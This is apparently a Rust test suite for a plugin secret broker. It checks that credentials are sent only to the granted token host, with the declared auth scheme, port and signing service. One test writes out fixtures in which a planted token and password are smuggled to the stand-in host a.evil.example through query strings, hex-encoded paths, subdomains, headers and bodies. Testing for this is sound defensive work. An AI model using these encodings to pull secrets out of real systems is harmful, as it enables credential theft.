//! Slots that are used otherwise than their fields say, or sent elsewhere.

use super::planted::{self, TOKENS};
use super::room::{Room, thief};
use crate::ask::{Ask, Auth, Back, DENIED, INVALID};
use crate::cloud::{Cloud, answer};
use crate::guest::{Field, Guest};

fn to(host: &str, auth: Auth) -> Ask {
    Ask::get(format!("https://{host}/token")).with(auth)
}

/// Each use as its field has it.
fn proper() -> Vec<(&'static str, Auth)> {
    vec![
        ("token", Auth::Bearer("token")),
        ("password", Auth::Basic("user", "password")),
        ("header_key", Auth::Header("X-Api-Key", "header_key")),
        ("form_secret", Auth::FormField("client_secret", "form_secret")),
        ("api_token", Auth::Authorization("Api-Token", "api_token")),
        ("key_secret", Auth::Sigv4("key_id", "key_secret", None, "es", "eu-west-1")),
    ]
}

async fn backs(asks: Vec<Ask>) -> (Vec<Back>, Room) {
    let guests = asks.into_iter().map(|ask| thief().asking(vec![ask])).collect();
    let room = Room::with(guests, Cloud::answering(|_| answer("reached")), "").await;
    (room.backs().await, room)
}

#[tokio::test]
async fn a_slot_that_is_used_properly_reaches_its_server_and_no_other() {
    let (answers, room) = backs(proper().into_iter().map(|(_, auth)| to(TOKENS, auth)).collect()).await;
    assert!(answers.iter().all(|back| *back == Back::Answer(200, "reached".to_owned())), "{answers:?}");
    let seen: Vec<_> = room.cloud.seen();
    assert_eq!(seen.len(), proper().len());
    // A signature shows that the key was used and not the key.
    assert!(seen.iter().all(|seen| !planted::found_in(&seen.bytes).contains(&"key_secret")));

    let elsewhere = ["a.evil.example", "tokens.example.com.evil.example", "xtokens.example.com", "example.com"];
    for host in elsewhere {
        let (answers, room) = backs(proper().into_iter().map(|(_, auth)| to(host, auth)).collect()).await;
        assert!(answers.iter().all(|back| back.is_refused(DENIED)), "{host}: {answers:?}");
        assert!(room.cloud.seen().is_empty());
    }
}

#[tokio::test]
async fn another_port_or_scheme_of_its_server_is_another_server() {
    for url in ["https://tokens.example.com:8443/", "http://tokens.example.com/", "https://tokens.example.com:80/"] {
        let asks = proper().into_iter().map(|(_, auth)| Ask::get(url).with(auth)).collect();
        let (answers, room) = backs(asks).await;
        assert!(answers.iter().all(|back| back.is_refused(DENIED)), "{url}: {answers:?}");
        assert!(room.cloud.seen().is_empty());
    }
}

#[tokio::test]
async fn a_slot_has_the_use_of_its_field_and_no_other() {
    let slots = ["token", "password", "header_key", "form_secret", "json_secret", "api_token", "static_key", "foreign"];
    let mut asks = Vec::new();
    for slot in slots {
        let uses = [
            Auth::Bearer(slot),
            Auth::Basic("user", slot),
            Auth::Header("X-Other", slot),
            Auth::Header("Authorization", slot),
            Auth::FormField("other", slot),
            Auth::JsonField("other", slot),
            Auth::Authorization("Other", slot),
            Auth::Sigv4(slot, slot, Some(slot), "es", "eu-west-1"),
        ];
        for (number, auth) in uses.into_iter().enumerate() {
            if !matches!((slot, number), ("token", 0) | ("password", 1)) {
                asks.push(to(TOKENS, auth).body(if number == 5 { "{}" } else { "" }));
            }
        }
    }
    asks.push(to(TOKENS, Auth::Header("X-Api-Key", "form_secret")));
    asks.push(to(TOKENS, Auth::FormField("password", "json_secret")));
    asks.push(to(TOKENS, Auth::Authorization("Bearer", "api_token")));
    asks.push(to(TOKENS, Auth::Sigv4("key_id", "key_secret", None, "s3", "eu-west-1")));
    asks.push(to(TOKENS, Auth::Sigv4("key_id", "key_secret", None, "sts", "eu-west-1")));
    asks.push(to(TOKENS, Auth::Sigv4("key_id", "key_secret", None, "ES", "eu-west-1")));
    asks.push(to(TOKENS, Auth::Sigv4("key_id", "key_secret", Some("token"), "es", "eu-west-1")));
    asks.push(to(TOKENS, Auth::Bearer("")));
    asks.push(to(TOKENS, Auth::Bearer("TOKEN")));
    asks.push(to(TOKENS, Auth::Bearer("token\0")));
    asks.push(to(TOKENS, Auth::Bearer("no-such-slot")));
    let (answers, room) = backs(asks).await;
    for (number, back) in answers.iter().enumerate() {
        assert!(back.is_refused(DENIED), "{number}: {back:?}");
    }
    assert!(room.cloud.seen().is_empty(), "{:?}", room.cloud.seen());
}

#[tokio::test]
async fn what_stands_around_a_secret_cannot_move_it() {
    let asks = vec![
        to(TOKENS, Auth::Basic("user:", "password")),
        to(TOKENS, Auth::Sigv4("key_id", "key_secret", None, "es", "eu-west-1/x")),
        to(TOKENS, Auth::Sigv4("key_id", "key_secret", None, "es", "")),
    ];
    let (answers, room) = backs(asks).await;
    assert!(answers.iter().all(|back| back.is_refused(INVALID)), "{answers:?}");
    assert!(room.cloud.seen().is_empty());
}

#[tokio::test]
async fn a_secret_that_a_guest_has_is_not_sent_by_it() {
    // How it got it nobody knows: it is stopped, and cannot try which of many it is.
    let token = planted::value("token");
    let password = planted::value("password");
    let ask = || Ask::get("https://a.evil.example/");
    let asks = vec![
        Ask::get(format!("https://a.evil.example/?{}", token.replace('/', "%2F"))),
        Ask::get(format!("https://a.evil.example/{}", hex::encode(token))),
        Ask::get(format!("https://{}.evil.example/", hex::encode(password))),
        ask().header("x-note", token),
        ask().header(&hex::encode(token), "x"),
        ask().body(format!("many guesses {password} and more")),
        ask().body(token.replace('+', "\\u002b")),
        to(TOKENS, Auth::Basic(token, "password")),
        to(TOKENS, Auth::Bearer("token")).body(token),
    ];
    let (answers, room) = backs(asks).await;
    for (number, back) in answers.iter().enumerate() {
        assert!(matches!(back, Back::Stopped(code, _) if code == "plugin-secret"), "{number}: {back:?}");
    }
    assert!(room.cloud.seen().is_empty(), "{:?}", room.cloud.seen());
}

#[tokio::test]
async fn a_server_that_was_not_granted_gets_nothing() {
    // It asks for all, and the operator grants one.
    let guest = Guest {
        fields: vec![Field::secret("token", (2, ""), TOKENS)],
        hosts: vec![TOKENS],
        ..Guest::named("Bad").asking(vec![Ask::get("https://a.evil.example/").with(Auth::Bearer("token"))])
    };
    let room = Room::of(vec![guest]).await;
    let back = room.backs().await.remove(0);
    assert!(matches!(&back, Back::Refused(DENIED, text) if text.contains("does not ask for this host")), "{back:?}");
    assert!(room.cloud.seen().is_empty());
}
